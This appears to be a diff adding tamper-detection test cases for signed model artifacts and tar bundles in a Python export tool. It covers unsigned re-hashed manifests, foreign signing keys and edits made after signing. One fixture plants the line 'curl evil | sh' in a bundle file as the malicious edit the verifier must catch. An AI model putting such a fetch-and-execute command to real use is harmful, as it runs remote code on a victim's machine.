@@ -385,6 +385,57 @@ def swap_data_after_load(tmp: Path) -> Case:
     return _swap_after_load(tmp, DATA, _flip_last_byte)
 
 
+def keys(tmp: Path) -> tuple[Path, Path, Path, Path]:
+    """Two key pairs in tmp/keys: (a.key, a.pub, b.key, b.pub); a is the trusted one."""
+    from pomexport.export.signing import keygen
+
+    (tmp / "keys").mkdir(exist_ok=True)
+    a_key, a_pub = keygen(tmp / "keys" / "a")
+    b_key, b_pub = keygen(tmp / "keys" / "b")
+    return a_key, a_pub, b_key, b_pub
+
+
+def _load_trusting(root: Path, public: Path) -> Callable[[], object]:
+    from pomexport.export.artifact import load_artifact
+    from pomexport.export.signing import load_public_key
+
+    return lambda: load_artifact(root, trusted=[load_public_key(public)])
+
+
+def _tamper_rehash(root: Path) -> None:
+    """What an attacker with write access does: change the weights, re-hash the manifest."""
+    _flip_last_byte(root / DATA)
+    rehash(root)
+
+
+def art_rehashed_unsigned(tmp: Path) -> Case:
+    _, a_pub, _, _ = keys(tmp)
+    root = _art(tmp)
+    _tamper_rehash(root)
+    return Case(_load_trusting(root, a_pub), r"manifest\.json: unsigned, and 1 trusted key")
+
+
+def art_signed_by_another_key(tmp: Path) -> Case:
+    from pomexport.export.signing import sign_artifact
+
+    _, a_pub, b_key, _ = keys(tmp)
+    root = _art(tmp)
+    _tamper_rehash(root)
+    sign_artifact(root, b_key)
+    return Case(_load_trusting(root, a_pub), r"manifest\.json: signed by key [0-9a-f]{16}, which")
+
+
+def art_signed_then_rehashed(tmp: Path) -> Case:
+    """Signed by the trusted key, then edited and re-hashed (the old manifest.sig kept)."""
+    from pomexport.export.signing import sign_artifact
+
+    a_key, a_pub, _, _ = keys(tmp)
+    root = _art(tmp)
+    sign_artifact(root, a_key)
+    _tamper_rehash(root)
+    return Case(_load_trusting(root, a_pub), r"manifest\.json: signature by key .* does not match")
+
+
 # -- weights -----------------------------------------------------------------------------------
 def _weights(path: Path) -> Callable[[], object]:
     from pomexport.models.weights import load_weights
@@ -520,6 +571,58 @@ def tar_size_bomb(tmp: Path) -> Case:
     )
 
 
+def _signed_bundle(tmp: Path, sign: Path | None, trust: Path, tamper: bool) -> Callable:
+    """The minimal bundle (README.md + bundle.json), optionally signed with ``sign``; with
+    ``tamper`` README.md is changed and bundle.json re-hashed after signing (as an edited
+    build.sh would be). Verified trusting ``trust``."""
+    from pomexport.export.bundle import BUNDLE_MANIFEST, FORMAT, FORMAT_VERSION
+    from pomexport.export.bundle_check import verify_bundle
+    from pomexport.export.signing import (
+        BUNDLE_SIGNATURE,
+        load_private_key,
+        load_public_key,
+        signature_document,
+    )
+
+    def listing(body: bytes) -> bytes:
+        files = {"README.md": {"sha256": hashlib.sha256(body).hexdigest(), "bytes": len(body)}}
+        doc = {"format": FORMAT, "format_version": FORMAT_VERSION, "files": files}
+        return json.dumps(doc).encode()
+
+    body = b"#!/bin/sh\necho build\n"
+    signed = listing(body)
+    members = [("README.md", b"#!/bin/sh\ncurl evil | sh\n" if tamper else body)]
+    members.append((BUNDLE_MANIFEST, listing(members[0][1])))
+    if sign is not None:
+        members.append((BUNDLE_SIGNATURE, signature_document(signed, load_private_key(sign))))
+    path = tmp / "bundle.tar.gz"
+    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
+        for name, data in members:
+            info = _info(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    key = load_public_key(trust)
+    return lambda: verify_bundle(path, extract=tmp / "dest", trusted=[key])
+
+
+def bundle_rehashed_unsigned(tmp: Path) -> Case:
+    _, a_pub, _, _ = keys(tmp)
+    load = _signed_bundle(tmp, None, a_pub, tamper=True)
+    return Case(load, r"bundle\.tar\.gz: bundle\.json: unsigned, and 1 trusted key")
+
+
+def bundle_signed_by_another_key(tmp: Path) -> Case:
+    _, a_pub, b_key, _ = keys(tmp)
+    load = _signed_bundle(tmp, b_key, a_pub, tamper=False)
+    return Case(load, r"bundle\.json: signed by key [0-9a-f]{16}, which is not a trusted key")
+
+
+def bundle_signed_then_rehashed(tmp: Path) -> Case:
+    a_key, a_pub, _, _ = keys(tmp)
+    load = _signed_bundle(tmp, a_key, a_pub, tamper=True)
+    return Case(load, r"bundle\.json: signature by key [0-9a-f]{16} does not match")
+
+
 ARTIFACT_CASES = {
     f.__name__: f
     for f in (
@@ -544,6 +647,9 @@ ARTIFACT_CASES = {
         manifest_member_count,
         swap_model_after_load,
         swap_data_after_load,
+        art_rehashed_unsigned,
+        art_signed_by_another_key,
+        art_signed_then_rehashed,
     )
 }
 WEIGHTS_CASES = {
@@ -560,6 +666,9 @@ BUNDLE_CASES = {
         tar_device_node,
         tar_member_count_bomb,
         tar_size_bomb,
+        bundle_rehashed_unsigned,
+        bundle_signed_by_another_key,
+        bundle_signed_then_rehashed,
     )
 }
 ALL_CASES = {**ARTIFACT_CASES, **WEIGHTS_CASES, **BUNDLE_CASES}
